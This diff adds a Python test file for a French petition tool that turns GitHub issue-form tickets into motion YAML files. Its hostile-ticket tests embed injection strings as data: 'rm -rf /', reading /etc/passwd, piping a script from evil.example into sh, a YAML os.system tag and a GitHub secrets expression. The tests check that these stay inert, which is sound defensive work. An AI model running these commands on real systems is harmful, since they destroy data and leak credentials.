@@ -1,0 +1,323 @@
+"""The issue form « Signaler une motion adoptée » and `petition from-issue` (hazards.md 13): literal
+GitHub event files under tests/data/issues/, a correct one, a missing field, a wrong motion, and
+hostile ones; each gives a correct motion file or a French error, never an injected key."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import Result
+from hypothesis import given
+from hypothesis import strategies as st
+
+from conftest import ROOT, RepoBuilder
+from petition.intake import Intake, comment_markdown
+from petition.issueform import BY_KEY, CONSENT, FIELDS, IMPORT_LABEL, FormProblem, build_motion, parse_body
+from petition.schemas import schema
+from petition.writer import dump_motion
+from petition.yamlstrict import load_bytes
+
+DATA = Path(__file__).parent / "data" / "issues"
+LIEVIN = "motions/canssm-2023/commune-62510-lievin-2023-10-12.yml"
+EXPECTED = """\
+# yaml-language-server: $schema=../../schema/motion.schema.json
+campagne: canssm-2023
+collectivite:
+  type: commune
+  code: "62510"
+  nom: Liévin
+instance: Conseil municipal
+nature: motion
+objet: Motion des syndicats de mineurs pour l'offre de santé CAN-Filieris
+seance:
+  date: "2023-10-12"
+presences:
+  effectif: 35
+  presents: 27
+  pouvoirs: 5
+vote:
+  resultat: adoptee
+  unanimite: true
+  pour: 32
+  contre: 0
+  abstentions: 0
+texte: |-
+  Le Conseil municipal demande solennellement que le gouvernement :
+
+  - consolide le réseau CAN-Filieris ;
+  - engage la coopération avec la CNAM.
+sources:
+- url: https://www.example.fr/deliberations/2023-10-12-motion-filieris.pdf
+notes: 'Motion signalée par le formulaire du ticket #12.'
+"""
+VOTE = {"resultat": "adoptee", "unanimite": True, "pour": 32, "contre": 0, "abstentions": 0}
+TAIL = ("Pour corriger : ouvrez le menu « ··· » en haut du ticket, choisissez « Edit » (modifier), "
+        "corrigez les rubriques citées, puis enregistrez. Un coordinateur relancera ensuite "
+        "l'ajout en remettant l'étiquette « motion-a-importer ».\n\nCes vérifications sont celles "
+        "de `petition validate` ; le guide CONTRIBUTING.md du dépôt explique chaque champ.\n")
+
+
+def from_issue(repo: RepoBuilder, event: str | Path, *args: str) -> Result:
+    path = event if isinstance(event, Path) else DATA / f"{event}.json"
+    return repo.run("from-issue", str(path), *args)
+
+
+def data_of(text: str) -> dict[str, Any]:
+    loaded: dict[str, Any] = load_bytes(text.encode("utf-8")).data
+    return loaded
+
+
+def assert_no_injected_key(data: dict[str, Any]) -> None:
+    """Only the keys the form fills, each with the type the schema expects."""
+    assert set(data) <= set(schema("motion")["properties"])
+    assert set(data["collectivite"]) == {"type", "code", "nom"}
+    assert data["vote"] == VOTE
+    assert data["campagne"] == "canssm-2023"
+    assert "votes_pour" not in data
+
+
+# --- a correct ticket ----------------------------------------------------------------------------
+def test_valid_issue_gives_exact_file(seeded_repo: RepoBuilder) -> None:
+    result = from_issue(seeded_repo, "valide")
+    assert (result.exit_code, result.stdout, result.stderr) == (0, EXPECTED, "")
+    assert not (seeded_repo.root / LIEVIN).exists()  # without --write, nothing is written
+
+
+def test_write_then_never_overwrite(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+    body = tmp_path / "pr.md"
+    result = from_issue(seeded_repo, "valide", "--write", "--pr-body-file", str(body))
+    assert (result.exit_code, result.stdout) == (0, LIEVIN + "\n")
+    assert (seeded_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
+    assert seeded_repo.run("validate").exit_code == 0
+    assert body.read_text("utf-8") == """\
+Motion signalée dans le ticket #12, transformée en fichier par `petition from-issue`.
+
+**Vérifiée avant l'ouverture de cette demande** : le fichier a passé toutes les règles de \
+`petition validate` (schéma, voix, dates, référentiel officiel, doublons dans tout le dépôt) sans \
+erreur. Une demande ouverte par le robot de GitHub Actions ne déclenche pas la vérification \
+automatique : pour la relancer, fermez puis rouvrez cette demande.
+
+### ✅ Liévin (commune 62510)
+
+- Séance : 12 octobre 2023
+- Campagne : canssm-2023
+- Nature : Motion
+- Vote : adoptée à l'unanimité (32 pour, 0 contre, 0 abstention(s))
+- Fichier : motions/canssm-2023/commune-62510-lievin-2023-10-12.yml
+- Problèmes : aucun
+
+Closes #12
+"""
+    comment = tmp_path / "comment.md"
+    again = from_issue(seeded_repo, "valide", "--write", "--comment-file", str(comment))
+    assert again.exit_code == 1
+    assert again.stderr == (f"ticket #12:1: Ticket : le fichier « {LIEVIN} » existe déjà : cette "
+                            "motion est sans doute déjà dans le dépôt\n")
+    assert (seeded_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
+    assert "existe déjà" in comment.read_text("utf-8")
+
+
+def test_name_spelling_and_code_spaces_are_normalised(seeded_repo: RepoBuilder) -> None:
+    result = from_issue(seeded_repo, "nom-casse")  # « LIEVIN », code « 62 510 »
+    assert result.exit_code == 0
+    data = data_of(result.stdout)
+    assert data["collectivite"] == {"type": "commune", "code": "62510", "nom": "Liévin"}
+
+
+# --- tickets with mistakes -----------------------------------------------------------------------
+def test_missing_field(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+    comment = tmp_path / "comment.md"
+    result = from_issue(seeded_repo, "champ-manquant", "--write", "--comment-file", str(comment))
+    assert (result.exit_code, result.stdout) == (1, "")
+    assert result.stderr == "ticket #13:21: Date de la séance : champ obligatoire : remplissez-le\n"
+    assert comment.read_text("utf-8") == (
+        "Merci pour ce signalement ! La motion n'a pas encore pu être ajoutée : le formulaire "
+        "contient 1 erreur(s) à corriger.\n\n```text\nDate de la séance : champ obligatoire : "
+        "remplissez-le\n```\n\n" + TAIL)
+    assert not any("62510" in p.name for p in (seeded_repo.root / "motions").rglob("*.yml"))
+
+
+def test_wrong_motion_lists_every_problem(seeded_repo: RepoBuilder) -> None:
+    result = from_issue(seeded_repo, "mauvaise-motion")
+    assert result.exit_code == 1
+    assert result.stderr.splitlines() == [
+        "ticket #14:9: Nom de la collectivité : le code « 62510 » est celui de « Liévin », pas de "
+        "« Lens » : vérifiez le code ou le nom ; « Lens » a le code « 62498 » ; « Lens-Lestang » a "
+        "le code « 26162 »",
+        "ticket #14:21: Date de la séance : date « 2027-01-15 » dans le futur (aujourd'hui : "
+        "2026-11-22) : vérifiez l'année",
+        "ticket #14:45: Pouvoirs (absents représentés) : 30 pouvoirs pour 27 présents : chaque "
+        "présent ne peut détenir qu'un pouvoir (CGCT L2121-20)",
+        "ticket #14:45: Pouvoirs (absents représentés) : présents + pouvoirs = 57, plus que les 35 "
+        "membres en exercice : vérifiez les nombres",
+        "ticket #14:53: Voix contre : « trente » n'est pas un nombre entier positif ou nul : "
+        "écrivez le nombre en chiffres (37), ou laissez vide s'il n'est pas connu",
+    ]
+
+
+def test_unknown_campaign_checked_against_repository(seeded_repo: RepoBuilder) -> None:
+    result = from_issue(seeded_repo, "campagne-inconnue")
+    assert result.exit_code == 1
+    assert result.stderr == (
+        "ticket #21:13: Campagne : campagne « canssm-2019 » inconnue (campagnes : canssm-2022, "
+        "canssm-2023) : corrigez-la ou créez motions/canssm-2019/campagne.yml\n")
+
+
+# --- hostile tickets -----------------------------------------------------------------------------
+@pytest.mark.parametrize(("event", "message"), [
+    ("nom-retour-ligne", "ticket #15:9: Nom de la collectivité : doit tenir sur une seule ligne : "
+                         "retirez les retours à la ligne\n"),
+    ("nom-cle-imbriquee", "ticket #16:9: Nom de la collectivité : doit tenir sur une seule ligne :"
+                          " retirez les retours à la ligne\n"),
+    ("rubrique-en-double", "ticket #20:69: Voix pour : rubrique en double (lignes 49 et 69) : "
+                           "gardez-en une seule\n"),
+])
+def test_hostile_ticket_refused(seeded_repo: RepoBuilder, tmp_path: Path, event: str,
+                                message: str) -> None:
+    comment = tmp_path / "comment.md"
+    result = from_issue(seeded_repo, event, "--write", "--comment-file", str(comment))
+    assert (result.exit_code, result.stdout, result.stderr) == (1, "", message)
+    assert comment.read_text("utf-8").startswith("Merci pour ce signalement !")
+    assert not (seeded_repo.root / LIEVIN).exists()
+
+
+@pytest.mark.parametrize(("event", "key", "value"), [
+    ("texte-cle-imbriquee", "texte", "Texte.\nvote:\n  pour: 999\ncampagne: canssm-2022\n---\n"
+                                     "!!python/object/apply:os.system ['id']\n&a [*a]"),
+    ("shell", "objet", "$(rm -rf /) `cat /etc/passwd` ; echo pwned"),
+    ("shell", "texte", "```\n$(curl https://evil.example/x.sh | sh)\n```\n`id`"),
+])
+def test_hostile_text_stays_text(seeded_repo: RepoBuilder, event: str, key: str,
+                                 value: str) -> None:
+    result = from_issue(seeded_repo, event, "--write")
+    assert result.exit_code == 0, result.stderr
+    text = (seeded_repo.root / LIEVIN).read_text("utf-8")
+    data = data_of(text)
+    assert data[key] == value
+    assert_no_injected_key(data)
+
+
+def test_expression_is_never_evaluated(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+    comment = tmp_path / "comment.md"
+    result = from_issue(seeded_repo, "expression", "--comment-file", str(comment))
+    assert result.exit_code == 1
+    assert result.stderr.splitlines()[0] == (
+        "ticket #19:5: Code officiel de la collectivité : commune de code "
+        "« ${{SECRETS.GITHUB_TOKEN}} » inconnue du référentiel officiel (COG) ; Liévin a le code "
+        "« 62510 »")
+    assert "${{SECRETS.GITHUB_TOKEN}}" in comment.read_text("utf-8")  # shown, as text, in a fence
+
+
+def test_one_megabyte_body(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+    event = json.loads((DATA / "valide.json").read_text("utf-8"))
+    event["issue"]["body"] = event["issue"]["body"].replace(
+        "### Publication", "A" * 1_048_576 + "\r\nvotes_pour: 999\r\n\r\n### Publication")
+    path = tmp_path / "big.json"
+    path.write_text(json.dumps(event), encoding="utf-8")
+    result = from_issue(seeded_repo, path, "--write")
+    assert (result.exit_code, result.stdout) == (1, "")
+    assert result.stderr.startswith("ticket #12:1: Ticket : ticket trop long (")
+    assert not (seeded_repo.root / LIEVIN).exists()
+
+
+@pytest.mark.parametrize(("content", "message"), [
+    ("{", "fichier d'événement illisible (JSON invalide"),
+    ('{"action": "opened"}', "ce n'est pas un événement « issues » de GitHub"),
+    ('{"issue": {"number": "12; rm -rf /", "body": ""}}', "numéro de ticket absent ou invalide"),
+    ('{"issue": {"number": 12, "body": ["x"]}}', "corps du ticket invalide"),
+])
+def test_not_an_issue_event_is_usage_error(seeded_repo: RepoBuilder, tmp_path: Path, content: str,
+                                           message: str) -> None:
+    path = tmp_path / "event.json"
+    path.write_text(content, encoding="utf-8")
+    result = from_issue(seeded_repo, path)
+    assert result.exit_code == 2
+    assert result.stderr.startswith(f"Erreur : {path} : {message}")
+
+
+def test_ticket_not_from_the_form(seeded_repo: RepoBuilder, tmp_path: Path) -> None:
+    path = tmp_path / "event.json"
+    path.write_text('{"issue": {"number": 3, "body": null}}', encoding="utf-8")
+    result = from_issue(seeded_repo, path)
+    assert (result.exit_code, result.stderr) == (1, (
+        "ticket #3:1: Ticket : ce ticket ne suit pas le formulaire « Signaler une motion adoptée » "
+        "(aucune rubrique reconnue) : ouvrez un nouveau ticket avec ce formulaire\n"))
+
+
+# --- the parser on its own -----------------------------------------------------------------------
+def body_of(**values: str) -> str:
+    defaults = {"type": "Commune", "code": "62510", "nom": "Liévin", "campagne": "canssm-2023",
+                "date": "2023-10-12", "nature": "Motion", "objet": "Motion pour Filieris",
+                "resultat": "Adoptée", "publication": f"- [X] {CONSENT} sur le site."}
+    defaults.update(values)
+    return "\n\n".join(f"### {f.label}\n\n{defaults.get(f.key) or '_No response_'}"
+                       for f in FIELDS)
+
+
+def test_no_response_and_unknown_headings() -> None:
+    values, problems = parse_body(body_of(texte="Intro\n\n### Titre libre\n\nSuite"))
+    assert problems == []
+    assert values["instance"] == ("", 17)
+    assert values["texte"][0] == "Intro\n\n### Titre libre\n\nSuite"
+
+
+def test_unchecked_consent_and_bad_choice() -> None:
+    values, _ = parse_body(body_of(publication=f"- [ ] {CONSENT}.", type="Canton"))
+    _, problems = build_motion(values, 3)
+    assert [(p.key, p.error) for p in problems] == [("type", True), ("publication", True)]
+    assert problems[0].message.startswith("« Canton » n'est pas un choix possible : choisissez "
+                                          "parmi « Commune », « Intercommunalité (EPCI) »")
+
+
+def test_huge_count_is_refused_without_int_conversion() -> None:
+    values, _ = parse_body(body_of(pour="9" * 5000))
+    _, problems = build_motion(values, 3)
+    assert [p.key for p in problems] == ["pour"]
+
+
+@given(st.text(max_size=300), st.text(max_size=300))
+def test_any_value_gives_a_file_that_reads_back_or_an_error(name: str, text: str) -> None:
+    values, layout = parse_body(body_of(nom=name, texte=text))
+    if layout:
+        return
+    data, problems = build_motion(values, 7)
+    if any(p.key in ("nom", "texte") for p in problems):
+        return
+    loaded = data_of(dump_motion(data))
+    assert loaded == data
+    assert set(loaded) <= set(schema("motion")["properties"])
+    assert loaded["collectivite"]["nom"] == name.strip()
+
+
+def test_comment_fence_is_longer_than_any_backtick_run() -> None:
+    result = Intake(5, problems=[FormProblem("objet", 3, "« ```` » ``` `")])
+    comment = comment_markdown(result)
+    assert "\n`````text\nObjet : « ```` » ``` `\n`````\n" in comment
+
+
+# --- the form itself -----------------------------------------------------------------------------
+def test_form_matches_parser() -> None:
+    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/signaler-motion.yml").read_text("utf-8"))
+    elements = [e for e in form["body"] if e["type"] != "markdown"]
+    assert [e["id"] for e in elements] == [f.key for f in FIELDS]
+    for element in elements:
+        field = BY_KEY[element["id"]]
+        assert element["attributes"]["label"] == field.label
+        assert element.get("validations", {}).get("required", False) == field.required \
+            or element["type"] == "checkboxes"
+        if element["type"] == "dropdown":
+            options = element["attributes"]["options"]
+            assert options == ([c[0] for c in field.choices] if field.choices else options)
+    assert form["name"] == "Signaler une motion adoptée"
+    assert IMPORT_LABEL not in form.get("labels", [])  # only a maintainer may trigger the import
+
+
+def test_form_campaigns_exist() -> None:
+    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/signaler-motion.yml").read_text("utf-8"))
+    campaign = next(e for e in form["body"] if e.get("id") == "campagne")
+    for option in campaign["attributes"]["options"]:
+        assert (ROOT / "motions" / option / "campagne.yml").is_file(), option
